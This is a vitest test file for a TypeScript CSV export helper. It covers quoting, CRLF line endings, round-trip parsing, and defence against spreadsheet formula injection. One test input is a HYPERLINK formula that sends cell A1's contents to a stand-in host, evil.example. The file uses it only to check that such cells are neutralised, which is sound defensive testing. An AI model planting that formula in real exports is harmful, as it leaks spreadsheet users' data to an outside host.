import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../../src/lib/exports/csv.ts';

describe('csv', () => {
	it('leaves plain fields alone and empties null and undefined', () => {
		expect(csvField('ENG-501')).toBe('ENG-501');
		expect(csvField(12)).toBe('12');
		expect(csvField(false)).toBe('false');
		expect(csvField(null)).toBe('');
		expect(csvField(undefined)).toBe('');
	});
	it('quotes commas, quotes and line breaks, doubling inner quotes', () => {
		expect(csvField('a, b')).toBe('"a, b"');
		expect(csvField('say "hi"')).toBe('"say ""hi"""');
		expect(csvField('two\nlines')).toBe('"two\nlines"');
		expect(csvField('cr\rhere')).toBe('"cr\rhere"');
	});
	it('ends every record with CRLF and reads back to the same values', () => {
		const rows = [
			['1', 'Add "circuit breaker", retries; and backoff', ''],
			['2', 'multi\r\nline', 'à la ✉️'],
		];
		const text = toCsv(['id', 'title', 'note'], rows);
		expect(text.endsWith('\r\n')).toBe(true);
		expect(text.split('\r\n')[0]).toBe('id,title,note');
		expect(parse(text, { columns: false })).toEqual([['id', 'title', 'note'], ...rows]);
	});
});

describe('csv formula injection (issue 14, OWASP)', () => {
	it('neutralises text cells a spreadsheet would run: a leading quote, and quoted', () => {
		expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
		expect(csvField('@dana')).toBe(`"'@dana"`);
		expect(csvField('+1 for retries')).toBe(`"'+1 for retries"`);
		expect(csvField('-2+3')).toBe(`"'-2+3"`);
		expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
		expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
		expect(csvField('＝1+1')).toBe(`"'＝1+1"`);
	});
	it('leaves numbers and text that starts otherwise alone, and reads back to the neutralised text', () => {
		expect(csvField(-3)).toBe('-3');
		expect(csvField('a = b')).toBe('a = b');
		const text = toCsv(['owner', 'title', 'daysLeft'], [['@dana', '=1+1', -3]]);
		expect(parse(text, { columns: false })[1]).toEqual(["'@dana", "'=1+1", '-3']);
	});
});
